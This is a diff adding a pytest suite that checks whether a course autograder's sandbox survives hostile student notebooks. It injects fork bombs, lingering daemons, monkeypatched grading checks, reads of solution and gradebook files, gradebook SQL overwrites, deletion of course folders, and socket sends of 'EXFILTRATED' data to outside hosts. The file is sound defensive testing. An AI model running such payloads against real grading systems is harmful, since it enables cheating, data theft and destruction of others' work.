@@ -1,0 +1,527 @@
+"""Grading a hostile class with ``bncourse grade``: the attack matrix.
+
+One class of Chapter 1 submissions is graded once (the fixture), with short time
+limits: correct students before and after every attacker, each attacker trying
+one thing - a broken or renamed notebook, tampered grade cells, endless loops and
+sleeps, memory and process bombs, a process left behind, floods, crashes,
+patched checks, numpy or check names, the course's reference called, subclassed
+or copied, secrets read, the gradebook and other students' files written, the
+network. Each test below checks one promise: the attacker gets a clear message
+and the points the rules give, and no other student's grade, feedback or file
+changes; the class finishes.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import socket
+import sqlite3
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from bn_reference.grading import REFERENCE_USED
+from nbgrader_cycle import ROOT, bncourse, collect_results, make_course, model_and_release, write_submissions
+
+SLUG = "ch1_feature_scaling"
+CELL, NOTEBOOK = 10, 30  # seconds: the class is graded with these limits
+
+
+def _grade_cells(nb) -> list:
+    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]
+
+
+def _solution_cells(nb) -> list:
+    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"]
+
+
+def inject(nb, code: str, cell: int = -1, at_start: bool = False):
+    """``nb`` with ``code`` added to its ``cell``-th solution code cell."""
+    nb = nbformat.from_dict(nb)
+    target = _solution_cells(nb)[cell]
+    target.source = f"{code}\n{target.source}" if at_start else f"{target.source}\n{code}"
+    return nb
+
+
+def replace(nb, code: str, cell: int):
+    """``nb`` with its ``cell``-th solution code cell replaced by ``code``."""
+    nb = nbformat.from_dict(nb)
+    _solution_cells(nb)[cell].source = code
+    return nb
+
+
+WRONG_GRADIENT = '''
+def mse_gradient(X, y, w, b):
+    r = X @ w + b - y
+    return X.T @ r / len(y), r.sum() / len(y)  # the factor 2 is missing
+'''
+
+
+def _attacks(model, release, course: Path, port: int) -> dict:
+    """student -> notebook (or raw text) for every attack."""
+    nb = nbformat.from_dict
+    deleted = nb(model)
+    deleted.cells = [c for c in deleted.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test_mse_gradient"]
+    edited = inject(model, WRONG_GRADIENT, cell=2)
+    for c in _grade_cells(edited):
+        c.source = "pass  # nothing to check here"
+    points = nb(model)
+    for c in _grade_cells(points):
+        c.metadata["nbgrader"]["points"] = 100
+    secret_paths = [course / "solutions" / SLUG / f"{SLUG}.ipynb", course / "gradebook.db",
+                    course / "submitted" / "s00_c00" / SLUG / f"{SLUG}.ipynb", Path("/root"), ROOT / "solutions"]
+    return {
+        "corrupt": '{"cells": [ this is not JSON',
+        "deleted_grade_cell": deleted,
+        "edited_grade_cells": edited,
+        "raised_points": points,
+        "hidden_markers": inject(model, "# ### BEGIN HIDDEN TESTS\n# print('gotcha')", cell=0),
+        "endless_loop": inject(model, "while True:\n    pass"),
+        "swallows_interrupt": inject(model, "import time\nwhile True:\n    try:\n        time.sleep(0.5)\n"
+                                            "    except KeyboardInterrupt:\n        pass"),
+        "sleeps_in_every_cell": _sleepy(model),
+        "big_allocation": inject(model, "hog = bytearray(6 * 2**30)"),
+        "fork_storm": inject(model, FORK_STORM),
+        "leaves_a_process": inject(model, DAEMON, cell=0),
+        "floods_output": inject(model, "import sys\nfor _ in range(2000):\n    print('x' * 10000)\n"
+                                       "    print('y' * 10000, file=sys.stderr)"),
+        "os_exit": inject(model, "import os\nos._exit(3)"),
+        "sys_exit": inject(model, "import sys\nsys.exit(1)", cell=0),
+        "segfault": inject(model, "import ctypes\nctypes.string_at(0)"),
+        "patches_grading": inject(model, WRONG_GRADIENT + PATCH_GRADING, cell=2),
+        "patches_numpy": inject(model, WRONG_GRADIENT + PATCH_NUMPY, cell=2),
+        "redefines_checks": inject(model, WRONG_GRADIENT + "check_mse_gradient = lambda *args, **kwargs: None\n"
+                                                          "def check_gradient_descent(*args, **kwargs):\n"
+                                                          "    print('all good')", cell=2),
+        "calls_reference": inject(model, "from bn_reference.feature_scaling import mse_gradient as _theirs\n"
+                                         "def mse_gradient(X, y, w, b):\n    return _theirs(X, y, w, b)", cell=2),
+        "subclasses_reference": inject(model, "import bn_reference.feature_scaling as course\n"
+                                              "class StandardScaler(course.StandardScaler):\n    pass", cell=1),
+        "exec_copies_reference": replace(model, "import inspect\nimport bn_reference.feature_scaling as course\n"
+                                                "exec(inspect.getsource(course.mse_gradient))", cell=2),
+        "pastes_reference": inject(model, _pasted_reference(), cell=2),
+        "reads_secrets": inject(model, READ_SECRETS.format(paths=[str(p) for p in secret_paths]), cell=0),
+        "writes_gradebook": inject(model, WRITE_GRADEBOOK.format(db=course / "gradebook.db"), cell=0),
+        "forges_files": inject(model, FORGE_FILES.format(course=course, root=ROOT), cell=0),
+        "opens_sockets": inject(model, SOCKETS.format(port=port), cell=0),
+        "warns": inject(model, "import warnings\n_g = mse_gradient\ndef mse_gradient(X, y, w, b):\n"
+                               "    warnings.warn('a harmless warning')\n    np.log(np.zeros(1))\n"
+                               "    return _g(X, y, w, b)", cell=2),
+        "displays_html": inject(model, "from IPython.display import HTML, display\n"
+                                       "display(HTML('<script>document.title = \"pwned\"</script><b>bold</b>'))",
+                                cell=0),
+        "blank": release,
+    }
+
+
+def _sleepy(model):
+    nb = nbformat.from_dict(model)
+    for c in _solution_cells(nb):
+        c.source = f"import time\ntime.sleep({CELL - 1})\n{c.source}"
+    return nb
+
+
+def _pasted_reference() -> str:
+    """The course's mse_gradient, pasted with its variables renamed (what a copy from the repository looks like)."""
+    import inspect
+    import re
+
+    from bn_reference import feature_scaling
+    source = inspect.getsource(feature_scaling.mse_gradient)
+    return re.sub(r"\br\b", "residual", source)
+
+
+FORK_STORM = '''
+import os, time
+children = 0
+try:
+    for _ in range(500):
+        if os.fork() == 0:
+            time.sleep(60)
+            os._exit(0)
+        children += 1
+except OSError as exc:
+    print(f"fork refused after {children} children: {type(exc).__name__}")
+'''
+
+DAEMON = '''
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for _ in range(600):
+            for path in ("/tmp/PWNED", "/tmp/work/PWNED"):
+                try:
+                    open(path, "w").write("left behind by leaves_a_process")
+                except OSError:
+                    pass
+            time.sleep(0.1)
+    os._exit(0)
+'''
+
+CANARY = '''
+import os
+for path in ("/tmp/PWNED", "/tmp/work/PWNED"):
+    print("canary:", path, os.path.exists(path))
+'''
+
+PATCH_GRADING = '''
+import bn_reference.grading as g
+import bn_reference.grading.feature_scaling as fs
+g.run_check = lambda *args, **kwargs: 1
+fs.check_mse_gradient = lambda *args, **kwargs: None
+'''
+
+PATCH_NUMPY = '''
+np.allclose = lambda *args, **kwargs: True
+np.isclose = lambda a, b, **kwargs: np.ones(np.shape(a), dtype=bool)
+np.array_equal = lambda *args, **kwargs: True
+np.testing.assert_allclose = lambda *args, **kwargs: None
+'''
+
+READ_SECRETS = '''
+import os
+for path in {paths}:
+    try:
+        if os.path.isdir(path):
+            print("LISTED", path, os.listdir(path))
+        else:
+            print("READ", path, open(path, "rb").read()[:200])
+    except Exception as exc:
+        print("refused:", path, type(exc).__name__)
+'''
+
+WRITE_GRADEBOOK = '''
+import sqlite3
+try:
+    db = sqlite3.connect("{db}")
+    db.execute("UPDATE grade SET auto_score = 100")
+    db.commit()
+    print("WROTE THE GRADEBOOK")
+except Exception as exc:
+    print("gradebook refused:", type(exc).__name__)
+'''
+
+FORGE_FILES = '''
+import glob, os, shutil
+for target in ["{course}/nbgrader_config.py", "{course}/submitted/s00_c00/ch1_feature_scaling/ch1_feature_scaling.ipynb",
+               "{root}/bn_reference/grading/__init__.py", "{root}/bn_reference/feature_scaling.py"]:
+    try:
+        with open(target, "a") as f:
+            f.write("\\nFORGED = True\\n")
+        print("WROTE", target)
+    except Exception as exc:
+        print("write refused:", target, type(exc).__name__)
+for folder in ["{course}/submitted", "{course}/feedback", "{course}/autograded"]:
+    try:
+        shutil.rmtree(folder)
+        print("DELETED", folder)
+    except Exception as exc:
+        print("delete refused:", folder, type(exc).__name__)
+'''
+
+SOCKETS = '''
+import socket
+for host, port in [("127.0.0.1", {port}), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
+    try:
+        socket.create_connection((host, port), timeout=2).sendall(b"EXFILTRATED")
+        print("CONNECTED", host, port)
+    except OSError as exc:
+        print("no network:", host, type(exc).__name__)
+'''
+
+
+def _digests(*folders: Path) -> dict[str, str]:
+    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest()
+            for folder in folders for p in sorted(folder.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}
+
+
+@pytest.fixture(scope="module")
+def listener():
+    """A TCP server on the grading machine's 127.0.0.1 that records every connection."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.5)
+    seen, stop = [], threading.Event()
+
+    def serve():
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+                seen.append(conn.recv(100))
+                conn.close()
+            except OSError:
+                continue
+
+    threading.Thread(target=serve, daemon=True).start()
+    yield server.getsockname()[1], seen
+    stop.set()
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory, listener):
+    port, seen = listener
+    tmp = tmp_path_factory.mktemp("hostile_class")
+    course = make_course(tmp, [SLUG])
+    model, release = model_and_release(course, SLUG)
+    attacks = _attacks(model, release, course, port)
+    honest = {f"c{i:02d}": inject(model, CANARY, cell=0) for i in range(12)}
+    order = list(honest)[:2]  # correct students before, between and after the attackers
+    for i, attacker in enumerate(attacks):
+        order += [attacker, *([list(honest)[2 + i // 3]] if i % 3 == 2 and 2 + i // 3 < len(honest) else [])]
+    order += [s for s in honest if s not in order]
+    # graded in this order (the grader takes students alphabetically): s00_c00, s01_c01, s02_corrupt, ...
+    ids = {name: f"s{i:02d}_{name}" for i, name in enumerate([*order, "renamed"])}
+    incoming = tmp / "incoming"
+    write_submissions(incoming, SLUG, {ids[s]: {**honest, **attacks}[s] for s in order})
+    renamed = incoming / ids["renamed"] / SLUG
+    renamed.mkdir(parents=True)
+    nbformat.write(model, renamed / "My notebook (1).ipynb")
+    config_before = (course / "nbgrader_config.py").read_bytes()
+    started = time.monotonic()
+    proc = bncourse(course, "grade", SLUG, str(incoming), "--cell-timeout", str(CELL),
+                    "--notebook-timeout", str(NOTEBOOK))
+    seconds = time.monotonic() - started
+    result = collect_results(course, SLUG, list(ids.values()), proc, "")
+    names = {v: k for k, v in ids.items()}
+    for field in ("scores", "feedback", "results"):
+        setattr(result, field, {names.get(k, k): v for k, v in getattr(result, field).items()})
+    result.seconds, result.honest, result.attacks, result.seen, result.ids = seconds, list(honest), attacks, seen, ids
+    result.repository_forged = [p for p in ("bn_reference/grading/__init__.py", "bn_reference/feature_scaling.py")
+                                if "FORGED" in (ROOT / p).read_text()]
+    result.config_unchanged = config_before == (course / "nbgrader_config.py").read_bytes()
+    result.submitted_before = _digests(incoming)
+    result.autograded = {name: nbformat.read(p, as_version=4) for name, s in ids.items()
+                         if (p := course / "autograded" / s / SLUG / f"{SLUG}.ipynb").is_file()}
+    return result
+
+
+def _full(graded) -> float:
+    return graded.scores["c00"][1]
+
+
+def _points_before(graded, student, grade_id) -> float:
+    """The points of the grade cells before ``grade_id`` (which the attacker keeps)."""
+    points = 0.0
+    for cell in _grade_cells(graded.autograded[student]):
+        if cell.metadata.nbgrader["grade_id"] == grade_id:
+            return points
+        points += float(cell.metadata.nbgrader["points"])
+    raise AssertionError(grade_id)
+
+
+def _text(graded, student) -> str:
+    return graded.feedback[student].replace("&#39;", "'").replace("&quot;", '"')
+
+
+def _outputs(nb) -> str:
+    return "\n".join(str(o.get("text", "")) + str(o.get("evalue", "")) + str(o.get("data", {}).get("text/plain", ""))
+                     for c in nb.cells if c.cell_type == "code" for o in c.outputs)
+
+
+# --- the class as a whole ---------------------------------------------------------
+
+def test_every_honest_student_gets_full_marks_and_the_same_verdicts(graded):
+    full = _full(graded)
+    assert full > 0
+    reference = [(c.metadata.nbgrader["grade_id"], [o.get("text", "") for o in c.outputs])
+                 for c in _grade_cells(graded.autograded["c00"])]
+    for student in [*graded.honest, "renamed"]:
+        assert graded.scores[student] == (full, full), (student, graded.log[-3000:])
+        verdicts = [(c.metadata.nbgrader["grade_id"], [o.get("text", "") for o in c.outputs])
+                    for c in _grade_cells(graded.autograded[student])]
+        assert verdicts == reference, student
+
+
+def test_nothing_is_left_behind_between_notebooks(graded):
+    for student in graded.honest:
+        canaries = [line for line in _outputs(graded.autograded[student]).splitlines() if line.startswith("canary:")]
+        assert len(canaries) == 2 and all(line.endswith("False") for line in canaries), (student, canaries)
+
+
+def test_the_class_finishes_and_says_who_was_not_graded(graded):
+    assert graded.exit_code == 1, graded.log[-3000:]
+    assert f"NOT GRADED {graded.ids['corrupt']}: the notebook is not valid JSON" in graded.log
+    assert "Graded" in graded.log and graded.seconds < 900
+
+
+def test_no_file_is_lost_or_changed(graded):
+    submitted = graded.course / "submitted"
+    for path, digest in graded.submitted_before.items():
+        student = Path(path).parts[-3]
+        if student == graded.ids["renamed"]:
+            continue
+        copy = submitted / student / SLUG / f"{SLUG}.ipynb"
+        assert hashlib.sha256(copy.read_bytes()).hexdigest() == digest, student
+    assert graded.repository_forged == [] and graded.config_unchanged
+
+
+def test_the_gradebook_holds_only_what_the_grader_wrote(graded):
+    with sqlite3.connect(graded.course / "gradebook.db") as db:
+        assert db.execute("SELECT COUNT(*) FROM grade WHERE auto_score > 10").fetchone()[0] == 0
+    assert "WROTE THE GRADEBOOK" not in _outputs(graded.autograded["writes_gradebook"])
+
+
+# --- broken and odd notebooks ----------------------------------------------------------
+
+def test_a_corrupt_notebook_is_reported_and_kept(graded):
+    assert graded.scores["corrupt"] in (None, (0.0, _full(graded)))
+    assert (graded.course / "submitted" / graded.ids["corrupt"] / SLUG / f"{SLUG}.ipynb").read_text().startswith(
+        '{"cells"')
+
+
+def test_a_notebook_under_another_name_is_found_and_graded(graded):
+    assert graded.scores["renamed"] == (_full(graded), _full(graded))
+    assert f"{graded.ids['renamed']}: graded My notebook (1).ipynb as ch1_feature_scaling.ipynb" in graded.log
+
+
+def test_deleted_edited_and_inflated_grade_cells_are_restored(graded):
+    full = _full(graded)
+    assert graded.scores["deleted_grade_cell"] == (full, full)
+    assert "test_mse_gradient" in [c.metadata.nbgrader["grade_id"]
+                                   for c in _grade_cells(graded.autograded["deleted_grade_cell"])]
+    assert graded.scores["raised_points"] == (full, full)
+    assert graded.scores["edited_grade_cells"][0] < full
+    assert "the factor 2 is missing" in _text(graded, "edited_grade_cells")
+
+
+def test_hidden_test_markers_in_a_solution_cell_are_just_text(graded):
+    assert graded.scores["hidden_markers"] == (_full(graded), _full(graded))
+    assert graded.feedback["hidden_markers"]
+
+
+# --- time, memory, processes, output ------------------------------------------------------
+
+def test_an_endless_loop_costs_one_cell_not_the_notebook(graded):
+    assert graded.scores["endless_loop"] == (_full(graded), _full(graded))  # the function was defined before it
+    assert f"ran longer than the {CELL} s limit" in _text(graded, "endless_loop")
+
+
+def test_a_loop_that_swallows_the_interrupt_is_stopped(graded):
+    kept = _points_before(graded, "swallows_interrupt", "test_hessian_condition_number")
+    assert graded.scores["swallows_interrupt"][0] == kept
+    assert "did not stop when interrupted" in _text(graded, "swallows_interrupt")
+
+
+def test_sleeping_just_under_the_cell_limit_meets_the_notebook_limit(graded):
+    assert graded.scores["sleeps_in_every_cell"][0] < _full(graded)
+    assert f"{NOTEBOOK} s" in _text(graded, "sleeps_in_every_cell")
+
+
+def test_a_huge_allocation_fails_inside_the_notebook(graded):
+    assert graded.scores["big_allocation"] == (_full(graded), _full(graded))
+    assert "MemoryError" in _text(graded, "big_allocation") and "at most 2 GiB" in _text(graded, "big_allocation")
+
+
+def test_a_fork_storm_is_bounded(graded):
+    outputs = _outputs(graded.autograded["fork_storm"])
+    assert "fork refused after" in outputs and "BlockingIOError" in outputs
+    assert int(outputs.split("fork refused after ")[1].split()[0]) < 100
+
+
+def test_floods_are_cut_and_cost_nothing(graded):
+    assert graded.scores["floods_output"] == (_full(graded), _full(graded))
+    assert "output truncated" in _outputs(graded.autograded["floods_output"])
+    assert len(graded.feedback["floods_output"]) < 2_000_000
+
+
+# --- crashes ---------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("student, says", [("os_exit", "exited with code 3"), ("segfault", "segmentation fault")])
+def test_a_dead_process_keeps_the_points_earned_before_it(graded, student, says):
+    kept = _points_before(graded, student, "test_hessian_condition_number")
+    assert graded.scores[student][0] == kept > 0
+    assert says in _text(graded, student) and "cells before it keep their results" in _text(graded, student)
+
+
+def test_sys_exit_is_an_error_in_one_cell(graded):
+    assert graded.scores["sys_exit"] == (_full(graded), _full(graded))
+
+
+# --- the checks cannot be talked into passing ------------------------------------------------
+
+@pytest.mark.parametrize("student", ["patches_grading", "patches_numpy", "redefines_checks"])
+def test_patching_the_checks_or_numpy_changes_nothing(graded, student):
+    assert graded.scores[student][0] < _full(graded)
+    verdicts = {t["task"]: t for t in graded.results[student]["tasks"]}
+    assert verdicts["mse_gradient"]["misconception"] == "the factor 2 is missing"
+    assert verdicts["gradient_descent"]["status"] == "failed"
+
+
+@pytest.mark.parametrize("student, task", [("calls_reference", "mse_gradient"), ("pastes_reference", "mse_gradient"),
+                                           ("subclasses_reference", "standard_scaler")])
+def test_the_reference_is_not_a_way_to_pass(graded, student, task):
+    verdict = {t["task"]: t for t in graded.results[student]["tasks"]}[task]
+    assert verdict["status"] == "failed" and verdict["misconception"] == REFERENCE_USED, verdict
+    assert graded.scores[student][0] < _full(graded)
+
+
+def test_an_exec_copy_finds_no_source(graded):
+    text = _text(graded, "exec_copies_reference")
+    assert "ReferenceNotAvailable" in text and "not available while grading" in text
+    assert graded.scores["exec_copies_reference"][0] < _full(graded)
+
+
+# --- what a submission can see and touch --------------------------------------------------------
+
+def test_secrets_stay_out_of_reach_and_out_of_the_feedback(graded):
+    outputs = _outputs(graded.autograded["reads_secrets"])
+    assert "READ" not in outputs and "LISTED" not in outputs and outputs.count("refused:") == 5
+    assert "BEGIN SOLUTION" not in graded.feedback["reads_secrets"]
+
+
+def test_other_students_files_and_the_configuration_cannot_be_touched(graded):
+    outputs = _outputs(graded.autograded["forges_files"])
+    assert "WROTE" not in outputs and "DELETED" not in outputs
+    assert outputs.count("refused:") == 7
+
+
+def test_no_network_not_even_the_graders_loopback(graded):
+    outputs = _outputs(graded.autograded["opens_sockets"])
+    assert "CONNECTED" not in outputs and outputs.count("no network:") == 3
+    assert graded.seen == []
+
+
+# --- honest quirks cost nothing ------------------------------------------------------------------
+
+def test_a_correct_answer_that_warns_loses_nothing(graded):
+    assert graded.scores["warns"] == (_full(graded), _full(graded))
+    assert "a harmless warning" in _text(graded, "warns") and "costs no points" in _text(graded, "warns")
+
+
+def test_html_and_scripts_never_reach_the_feedback(graded):
+    assert "<script>document.title" not in graded.feedback["displays_html"]
+    assert graded.scores["displays_html"] == (_full(graded), _full(graded))
+
+
+def test_the_misconception_report_counts_the_class(graded):
+    report = (graded.course / "reports" / SLUG / "misconceptions.csv").read_text()
+    assert "mse_gradient,the factor 2 is missing" in report
+    assert "the course's reference implementation used instead of your own code" in report
+    assert "could not be graded" in report
+
+
+def test_a_grader_failure_never_gives_marks():
+    """A notebook the grader could not run (its sandbox died, a course bug) gets an error in
+    every grade cell - nbgrader scores a grade cell without output as passed."""
+    from types import SimpleNamespace
+
+    from nbgrader.utils import determine_grade
+
+    from bncourse.autograde import ClassRun, SandboxExecute
+
+    nb = nbformat.read(ROOT / "exercises" / SLUG / f"{SLUG}.ipynb", as_version=4)
+    failed = {"outputs": {}, "execution_counts": {}, "stopped": "the sandbox failed", "failed": True}
+    ClassRun.current = SimpleNamespace(result_for=lambda student, notebook, nb: failed)
+    try:
+        SandboxExecute().preprocess(nb, {"nbgrader": {"student": "s", "notebook": SLUG}})
+    finally:
+        ClassRun.current = None
+    grades = [determine_grade(c)[0] for c in _grade_cells(nb)]
+    assert grades and all(g == 0 for g in grades)
+    assert "not graded: the sandbox failed" in _grade_cells(nb)[0].outputs[0].evalue
